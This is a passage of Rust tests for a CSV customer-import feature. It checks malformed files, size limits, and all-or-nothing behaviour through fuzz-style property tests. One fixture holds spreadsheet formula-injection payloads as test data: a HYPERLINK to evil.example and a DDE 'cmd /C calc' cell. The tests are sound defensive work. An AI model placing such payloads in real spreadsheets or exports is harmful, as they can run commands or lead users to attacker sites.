        async fn $test() {
            let app = spawn_app().await;
            import_corpus_file(&app, &hostile($file), $expect);
        }
    )+};
}

corpus! {
    corpus_unterminated_quote: "unterminated_quote.csv" => Expect::Error {
        line: 3, column: Some("note"), reason: "never closed" };
    corpus_unterminated_quote_in_the_header: "unterminated_quote_header.csv" => Expect::Error {
        line: 1, column: None, reason: "never closed" };
    corpus_nul_byte: "nul_byte.csv" => Expect::Error {
        line: 3, column: Some("note"), reason: "NUL" };
    corpus_invalid_utf8: "invalid_utf8.csv" => Expect::Error {
        line: 2, column: Some("note"), reason: "UTF-8" };
    corpus_invalid_utf8_header: "invalid_utf8_header.csv" => Expect::Error {
        line: 1, column: None, reason: "UTF-8" };
    corpus_duplicate_headers: "duplicate_headers.csv" => Expect::Error {
        line: 1, column: Some("City"), reason: "twice" };
    corpus_ragged_row: "ragged_row.csv" => Expect::Error {
        line: 3, column: None, reason: "3 fields, the header has 2" };
    corpus_formula_cells: "formula_cells.csv" => Expect::Imports {
        customers: 4,
        values: &[
            ("=1+1", "note", "=HYPERLINK(\"http://evil.example\",\"x\")"),
            ("@SUM(A1)", "note", "+cmd|' /C calc'!A0"),
            ("+4", "note", "-5"),
        ] };
    corpus_byte_order_mark: "bom.csv" => Expect::Imports {
        customers: 2, values: &[("B1", "city", "Leeds")] };
    corpus_crlf: "crlf.csv" => Expect::Imports {
        customers: 3, values: &[("R3", "city", "York")] };
    corpus_mixed_line_ends: "mixed_line_ends.csv" => Expect::Imports {
        customers: 4, values: &[("M2", "city", "Hull"), ("M4", "city", "Bath")] };
    corpus_quoted_newline_closed: "quoted_newline.csv" => Expect::Imports {
        customers: 2, values: &[("Q1", "note", "two\nlines, and \"quotes\"")] };
}

#[tokio::test]
async fn corpus_ten_thousand_columns() {
    let app = spawn_app().await;
    let path = app.dir.path().join("wide.csv");
    let header: Vec<String> = (0..10_000).map(|i| format!("c{i}")).collect();
    let row: Vec<&str> = vec!["1"; 10_000];
    std::fs::write(
        &path,
        format!("customer_id,{}\nW1,{}\n", header.join(","), row.join(",")),
    )
    .unwrap();
    import_corpus_file(
        &app,
        &path,
        Expect::Error {
            line: 1,
            column: None,
            reason: "the header has more than 501 fields",
        },
    );
}

#[tokio::test]
async fn corpus_fifty_megabyte_cell() {
    let app = spawn_app().await;
    let path = app.dir.path().join("huge.csv");
    let mut file = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
    file.write_all(b"customer_id,note\nH1,small\nH2,\"")
        .unwrap();
    let block = vec![b'x'; 1 << 20];
    for _ in 0..50 {
        file.write_all(&block).unwrap();
    }
    file.write_all(b"\"\nH3,after\n").unwrap();
    file.flush().unwrap();
    drop(file);
    import_corpus_file(
        &app,
        &path,
        Expect::Error {
            line: 3,
            column: Some("note"),
            reason: "longer than 65536 bytes",
        },
    );
}

// ------------------------------------------------------------------------------------------
// The property: random bytes never panic the import, which imports everything or nothing.

mod property {
    use std::sync::Arc;

    use fairseg::app::imports::{ImportContext, ImportRequest, import};
    use fairseg::db::Db;
    use fairseg::imports::{ImportError, ImportKind, ImportOptions};
    use fairseg::policy::Policy;
    use proptest::prelude::*;

    use crate::helpers::{TestDatabase, policies_dir};

    fn customers(db: &Db) -> i64 {
        use diesel::prelude::*;
        db.read(|c| {
            Ok(fairseg::db::schema::customers::table
                .count()
                .get_result(c)?)
        })
        .unwrap()
    }

    /// Bytes that are mostly CSV structure: separators, quotes, line ends, a NUL, bytes that
    /// are not UTF-8, formula starts, and a few letters and digits.
    fn csv_bytes() -> impl Strategy<Value = Vec<u8>> {
        let byte = prop_oneof![
            4 => prop::sample::select(b"abcXYZ019".to_vec()),
            2 => Just(b','),
            2 => Just(b'"'),
            2 => Just(b'\n'),
            1 => Just(b'\r'),
            1 => Just(b' '),
            1 => prop::sample::select(vec![0u8, 0xff, 0xfe, 0xc3, 0xef, 0xbb, 0xbf]),
            1 => prop::sample::select(b"=+-@\t?".to_vec()),
        ];
        let body = prop::collection::vec(byte, 0..300);
        // Half the cases start with a valid header, so that rows get checked too.
        (any::<bool>(), body).prop_map(|(header, body)| {
            let mut bytes = if header {
                b"customer_id,a,b\n".to_vec()
            } else {
                Vec::new()
            };
            bytes.extend(body);
            bytes
        })
    }

    #[test]
    fn random_csv_bytes_never_panic_and_import_all_or_nothing() {
        let dir = tempfile::tempdir().unwrap();
        let database = TestDatabase::new(dir.path());
        let db = Db::connect(&fairseg::db::DatabaseUrl::parse(&database.url).unwrap()).unwrap();
        let policy = Arc::new(Policy::load(&policies_dir()).unwrap());
        let pseudonyms = fairseg::startup::pseudonymizer(&db).unwrap();
        let file = dir.path().join("random.csv");
        let config = ProptestConfig {
            cases: 96,
            failure_persistence: None,
            ..ProptestConfig::default()
        };
        proptest!(config, |(bytes in csv_bytes())| {
            std::fs::write(&file, &bytes).unwrap();
            let before = customers(&db);
            let result = import(
                &ImportContext { db: &db, policy: &policy, pseudonyms: &pseudonyms },
                &ImportRequest {
                    kind: ImportKind::Customers,
                    path: &file,
                    file_name: "random.csv",
                    options: ImportOptions::default(),
                    rejected: None,
                    actor: &fairseg::trail::Actor::cli(),
                },
            );
            let after = customers(&db);
            match result {
                Ok(report) => {
                    prop_assert_eq!(report.errors_total, 0);
                    prop_assert_eq!(report.rows_rejected, 0);
                    prop_assert_eq!(report.rows_imported, report.rows_read);
                    prop_assert_eq!(
                        report.customers_created + report.customers_updated,
                        report.rows_imported
                    );
                    prop_assert_eq!(after - before, report.customers_created as i64);
                }
                Err(ImportError::Invalid(report)) => {
                    prop_assert!(report.errors_total > 0);
                    prop_assert!(!report.errors.is_empty());
                    prop_assert_eq!(after, before, "a refused file changes nothing");
                }
                Err(other) => prop_assert!(false, "unexpected failure: {}", other),
            }
        });
    }
}
